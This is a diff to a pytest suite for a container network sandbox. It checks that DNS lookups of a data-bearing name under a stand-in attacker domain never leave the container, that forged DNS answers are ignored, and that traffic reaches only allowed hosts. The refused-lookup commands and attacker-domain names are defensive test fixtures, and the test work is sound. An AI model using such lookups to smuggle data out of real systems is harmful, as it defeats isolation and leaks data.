@@ -4,16 +4,11 @@ import re
 import struct
 
 import pytest
+from conftest import at_best
 from internet import address_of
 from names import GET  # noqa: F401
 
 pytestmark = pytest.mark.cell(names=True)
-
-@pytest.fixture
-def by(wall):
-    """How a program asks: in the cell there are no datagrams."""
-    return "+notcp" if wall == "nft" else "+tcp"
-
 
 REFUSED_LOOKUPS = [
     "dig {name}",
@@ -34,17 +29,22 @@ def test_refused_names_never_leave_the_container(shell, dns, sinks, wire, wall):
     name = "deadbeef.attacker.test"
     dns.add(name, "45.12.0.1")
     script = "\n".join(f'timeout 5 {c.format(name=name)}; echo "# $?"' for c in REFUSED_LOOKUPS)
-    done = shell(script).ok()
-    statuses = [line for line in done.lines() if line.startswith("# ")]
-    assert len(statuses) == len(REFUSED_LOOKUPS)
-    slow = [c for c, status in zip(REFUSED_LOOKUPS, statuses) if status == "# 124"]
-    # In the cell who connects to a server elsewhere waits for some seconds.
-    assert all(wall != "nft" and "@" in c for c in slow), done
+
+    def slow():
+        done = shell(script).ok()
+        statuses = [line for line in done.lines() if line.startswith("# ")]
+        assert len(statuses) == len(REFUSED_LOOKUPS)
+        hung = [c for c, status in zip(REFUSED_LOOKUPS, statuses) if status == "# 124"]
+        # In the cell who connects to a server elsewhere waits for some seconds.
+        return len([c for c in hung if wall == "nft" or "@" not in c])
+
+    at_best(slow, 1)
     assert dns.asked("attacker.test") == []
     assert not wire.carried(b"deadbeef")
     assert sinks.seen() == []
 
 
+@pytest.mark.nft  # the cell starts on no such network (test_cell_attacks.py)
 def test_on_a_user_defined_network_neither(shell, dns, sinks, network):
     name = "deadbeef.attacker.test"
     script = "\n".join(f"timeout 5 {c.format(name=name)}" for c in REFUSED_LOOKUPS) + "\ntrue"
@@ -117,6 +117,7 @@ def pointer_loop(_, packet):
 def test_a_hostile_answer_is_not_believed(shell, dns, sinks, maker, wall):
     """What comes before the honest answer is dropped, and the honest one still counts."""
     dns.forge("allowed.test", maker)
-    script = f"{GET} https://allowed.test; {GET} -k https://45.13.0.66"
-    shell(script, allow="allowed.test").ok(35 if wall == "nft" else 28)
+    patience, ends = (30, 35) if wall == "nft" else (3, 28)  # in the cell nobody answers
+    script = f"{GET} https://allowed.test; {GET} -m {patience} -k https://45.13.0.66"
+    shell(script, allow="allowed.test").ok(ends)
     assert sinks.addresses() == {address_of("allowed.test")}
